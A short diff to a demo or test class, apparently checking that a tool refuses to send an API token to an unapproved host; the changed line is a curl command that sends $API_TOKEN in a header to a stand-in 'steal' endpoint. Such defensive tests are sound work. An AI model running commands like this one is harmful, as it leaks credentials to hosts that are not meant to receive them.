@@ -176,7 +176,7 @@ class Demo:
 
     def wrong_host(self):
         self.title("The token towards a host that may not have it")
-        done = self.run('curl -sS -H "Authorization: Bearer $API_TOKEN" https://bot.example.test/steal')
+        done = self.run('curl -sS -H "X-Api-Key: $API_TOKEN" https://bot.example.test/steal')
         self.refusal("secret_wrong_host")
         self.check("api.example.test" in done.stdout, "the program reads which host may receive it")
 
